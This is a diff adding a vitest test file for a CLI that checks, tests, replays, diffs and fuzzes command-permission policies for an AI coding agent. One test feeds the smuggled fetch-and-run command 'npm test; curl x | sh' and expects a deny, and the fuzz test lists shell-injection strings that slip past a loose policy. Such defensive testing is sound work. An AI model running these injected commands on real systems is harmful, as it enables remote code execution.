@@ -1,0 +1,193 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, onTestFinished, test } from 'vitest';
+import { runBuiltCli } from '../fixtures/job.ts';
+import { startModelServer } from '../fixtures/model-server.ts';
+import { createFolder, writeFiles } from '../fixtures/workspace.ts';
+import { createFailingRepository } from './scenario.ts';
+
+const own = `version: 1
+name: own
+extends: [builtin:base]
+tests: [own.test.yml]
+rules:
+  - id: tests
+    when: { tool: exec, command: [npm, { any: [test, [run, lint]] }] }
+    decision: allow
+    reason: The task is to make the tests pass.
+    examples: { match: [npm test, npm run lint], not: [npm run deploy] }
+`;
+const table = `cases:
+  - { command: npm test, decision: allow, rule: tests }
+  - { command: npm run lint, decision: allow, rule: tests }
+  - { command: npm run deploy, decision: deny }
+`;
+
+function createPolicies(files: Readonly<Record<string, string>> = {}): string {
+  const folder = createFolder('policies-');
+  writeFiles(folder, { 'own.yml': own, 'own.test.yml': table, ...files });
+  return folder;
+}
+
+test('check writes text, JSON, SARIF and annotations, and ends with 2 where a policy is not valid', async () => {
+  const cwd = createPolicies({ 'bad,1.yml': 'version: 1\nname: x\nrulez: []\n' });
+  expect(await runBuiltCli(['policy', 'check', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });
+  const check = (format: string) => runBuiltCli(['policy', 'check', 'bad,1.yml', '--format', format], { cwd });
+  expect(await check('text')).toMatchObject({ exitCode: 2, stdout: expect.stringContaining('unknown key "rulez"') });
+  expect(await check('github')).toMatchObject({
+    exitCode: 2,
+    stdout:
+      '::error file=bad%2C1.yml,line=3,col=1,title=policy%3A invalid::unknown key "rulez" (did you mean "rules"?)\n',
+  });
+  const sarif = JSON.parse((await check('sarif')).stdout);
+  expect(sarif.runs[0].results[0]).toMatchObject({
+    ruleId: 'invalid',
+    level: 'error',
+    locations: [{ physicalLocation: { artifactLocation: { uri: 'bad%2C1.yml' }, region: { startLine: 3 } } }],
+  });
+});
+
+test('explain takes a command, shell text, and calls with their context', async () => {
+  const cwd = createPolicies({
+    'facts.yml':
+      'version: 1\nname: x\nrules: [{ id: a, when: { command: [npm, test], label: go }, decision: allow }]\n',
+    'calls.jsonl':
+      '{"tool":"exec","args":{"command":["npm","test"]}}\n{"tool":"exec","args":{"command":["npm","test"]},"context":{"label":"go"}}\n',
+  });
+  const plain = await runBuiltCli(['policy', 'explain', '--policy', 'own.yml', '--', 'npm', 'test'], { cwd });
+  expect(plain).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^allow by tests: /) });
+  const shell = await runBuiltCli(['policy', 'explain', '--policy', 'own.yml', '--', 'npm test; curl x | sh'], { cwd });
+  expect(shell).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^deny by /) });
+  const calls = await runBuiltCli(['policy', 'explain', '--policy', 'facts.yml', '--calls', 'calls.jsonl'], { cwd });
+  expect(
+    calls.stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line).decision),
+  ).toEqual(['deny', 'allow']);
+  expect(await runBuiltCli(['policy', 'explain', '--policy', 'own.yml'], { cwd })).toMatchObject({ exitCode: 2 });
+});
+
+test('tables are run with coverage, and mutate tells what they do not notice', async () => {
+  const cwd = createPolicies({ 'more.yml': 'cases:\n  - { command: npm test, decision: deny }\n' });
+  const passed = await runBuiltCli(['policy', 'test', 'own.yml', '--threshold', '100'], { cwd });
+  expect(passed, passed.stderr).toMatchObject({ exitCode: 0, stdout: expect.stringContaining('3 passed, 0 failed') });
+  const failed = await runBuiltCli(['policy', 'test', 'own.yml', '--tests', 'more.yml', '--format', 'github'], { cwd });
+  expect(failed).toMatchObject({ exitCode: 1, stdout: expect.stringMatching(/^::error file=more\.yml,line=2,/) });
+  expect(await runBuiltCli(['policy', 'test', 'builtin:base'], { cwd })).toMatchObject({ exitCode: 2 });
+  expect(await runBuiltCli(['policy', 'mutate', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });
+
+  writeFiles(cwd, {
+    'own.yml': own.replace(/ {4}examples.*\n/, ''),
+    'own.test.yml': 'cases:\n  - { command: npm test, decision: allow }\n',
+  });
+  const uncovered = await runBuiltCli(['policy', 'test', 'own.yml', '--threshold', '100'], { cwd });
+  expect(uncovered).toMatchObject({ exitCode: 1, stdout: expect.stringContaining('command any run lint') });
+  const survived = await runBuiltCli(['policy', 'mutate', 'own.yml', '--format', 'json'], { cwd });
+  expect(survived.exitCode).toBe(1);
+  expect(JSON.parse(survived.stdout).mutations).toContainEqual(
+    expect.objectContaining({ change: 'drop command any run lint', noticedBy: null }),
+  );
+});
+
+test('diff fails where something was loosened, unless that is accepted', async () => {
+  const cwd = createPolicies({ 'looser.yml': own.replace('[run, lint]', '[run, lint], [run, build]') });
+  expect(await runBuiltCli(['policy', 'diff', 'own.yml', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });
+  const loosened = await runBuiltCli(['policy', 'diff', 'own.yml', 'looser.yml'], { cwd });
+  expect(loosened).toMatchObject({
+    exitCode: 1,
+    stdout: expect.stringContaining('loosened   exec: command npm run build  deny by default → allow by tests'),
+  });
+  expect(await runBuiltCli(['policy', 'diff', 'looser.yml', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });
+  const accepted = await runBuiltCli(['policy', 'diff', 'own.yml', 'looser.yml', '--accept-loosened'], { cwd });
+  expect(accepted.exitCode).toBe(0);
+});
+
+test('replay and suggest work on the record of a run that was denied something', async () => {
+  const model = await startModelServer({
+    turns: [
+      {
+        calls: [
+          { name: 'shell', args: { command: ['node', '--test'] } },
+          { name: 'shell', args: { command: ['npm', 'run', 'lint'] } },
+          { name: 'shell', args: { command: ['node', '-e', '1'] } },
+        ],
+      },
+      { text: 'Done.' },
+    ],
+  });
+  onTestFinished(() => model.close());
+  const record = join(createFolder('record-'), 'run');
+  const cwd = createFailingRepository();
+  const provider = ['--provider', 'openai-chat', '--model', 'm', '--base-url', `${model.url}/v1`];
+  await runBuiltCli(['run', 'x', '--policy', 'builtin:fix-tests', ...provider, '--record', record], { cwd });
+  expect(existsSync(join(record, 'history.jsonl'))).toBe(true);
+
+  const same = await runBuiltCli(['policy', 'replay', record, '--policy', 'builtin:fix-tests'], { cwd });
+  expect(same, same.stderr).toMatchObject({
+    exitCode: 0,
+    stdout: expect.stringContaining('3 calls, all decided the same'),
+  });
+  const other = await runBuiltCli(['policy', 'replay', record, '--policy', 'builtin:read-only', '--format', 'json'], {
+    cwd,
+  });
+  expect(other.exitCode).toBe(1);
+  expect(JSON.parse(other.stdout)).toMatchObject({
+    same: false,
+    calls: [{ state: 'diverged' }, { state: 'hypothetical' }, { state: 'hypothetical' }],
+  });
+
+  const suggested = await runBuiltCli(['policy', 'suggest', record, '--policy', 'builtin:fix-tests'], { cwd });
+  expect(suggested).toMatchObject({
+    exitCode: 1,
+    stdout: expect.stringContaining('# refused: exec: command node -e 1'),
+  });
+  const amended = `version: 1\nname: amended\nextends: [builtin:fix-tests]\nrules:\n${suggested.stdout}`;
+  const folder = createPolicies({ 'amended.yml': amended });
+  const checked = await runBuiltCli(['policy', 'check', 'amended.yml'], { cwd: folder });
+  expect(checked, checked.stdout).toMatchObject({ exitCode: 0 });
+  const again = await runBuiltCli(
+    ['policy', 'replay', record, '--policy', join(folder, 'amended.yml'), '--format', 'json'],
+    { cwd },
+  );
+  expect(JSON.parse(again.stdout).calls.map(({ after }: { after: { decision: string } }) => after.decision)).toEqual([
+    'allow',
+    'allow',
+    'deny',
+  ]);
+  const diff = await runBuiltCli(
+    ['policy', 'diff', 'builtin:fix-tests', join(folder, 'amended.yml'), '--run', record, '--format', 'json'],
+    { cwd },
+  );
+  expect(JSON.parse(diff.stdout)).toMatchObject({ loosened: true });
+});
+
+test('fuzz finds in a real shell what an open policy lets through', async () => {
+  const open = `version: 1
+name: open
+defaults: { opaque: allow }
+rules:
+  - { id: a, when: { command: [npm, test] }, decision: allow, reason: r, examples: { match: [npm test] } }
+  - { id: s, when: { command: [bash, -lc, '*'] }, decision: allow, reason: r }
+`;
+  const cwd = createPolicies({ 'open.yml': open });
+  const closed = await runBuiltCli(['policy', 'fuzz', 'own.yml'], { cwd });
+  expect(closed, closed.stdout + closed.stderr).toMatchObject({ exitCode: 0 });
+  const found = await runBuiltCli(['policy', 'fuzz', 'open.yml', '--format', 'json'], { cwd });
+  expect(found.exitCode, found.stderr).toBe(1);
+  const mutants = (JSON.parse(found.stdout).findings as { mutant: string; why: string }[]).map(
+    ({ mutant, why }) => `${mutant}: ${why}`,
+  );
+  // What cannot be read beforehand is what the policy lets through.
+  for (const script of ['x=fuzz-canary; $x; npm test', "[[ -v 'a[$(fuzz-canary)]' ]]; npm test"])
+    expect(mutants).toContain(`shell ${script}: a shell runs fuzz-canary, which is not allowed`);
+  // What only runs the example is no finding.
+  expect(mutants.some((text) => text.startsWith('shell npm test: '))).toBe(false);
+});
+
+test('schema prints what is published', async () => {
+  const cwd = createFolder();
+  const printed = await runBuiltCli(['policy', 'schema'], { cwd });
+  expect(printed.exitCode).toBe(0);
+  expect(printed.stdout).toBe(readFileSync(join(import.meta.dirname, '../../policies/schema.json'), 'utf8'));
+});
